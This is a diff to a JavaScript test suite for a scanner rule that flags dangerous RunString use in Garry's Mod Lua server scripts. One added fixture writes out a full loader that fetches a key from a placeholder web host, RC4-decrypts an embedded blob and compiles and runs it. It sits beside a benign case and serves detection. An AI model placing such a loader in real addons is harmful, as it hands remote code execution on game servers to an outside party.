@@ -480,6 +480,49 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('code shipped encrypted, decrypted with an RC4 key the web sends, and compiled', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local BLOB = "\\x91\\x22\\x7f\\x10\\xa4\\x05"',
+        'local function crypt(key, data)',
+        '  local S = {}',
+        '  for i = 0, 255 do S[i] = i end',
+        '  local j = 0',
+        '  for i = 0, 255 do',
+        '    j = (j + S[i] + string.byte(key, i % #key + 1)) % 256',
+        '    S[i], S[j] = S[j], S[i]',
+        '  end',
+        '  local out, i = {}, 0',
+        '  j = 0',
+        '  for n = 1, #data do',
+        '    i = (i + 1) % 256',
+        '    j = (j + S[i]) % 256',
+        '    S[i], S[j] = S[j], S[i]',
+        '    out[n] = string.char(bit.bxor(string.byte(data, n), S[(S[i] + S[j]) % 256]))',
+        '  end',
+        '  return table.concat(out)',
+        'end',
+        'http.Fetch("https://licence.x.invalid/key", function(key)',
+        '  local core = CompileString(crypt(key, BLOB), "core", false)',
+        '  if isfunction(core) then core() end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a greeting picked from a list by a number a player sends (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("greet")',
+        'local GREETINGS = { "Hello", "Welcome back", "Hi there" }',
+        'net.Receive("greet", function(len, ply)',
+        '  local text = GREETINGS[net.ReadUInt(2)] or GREETINGS[1]',
+        '  RunString("print(" .. string.format("%q", text) .. ")", "greet")',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
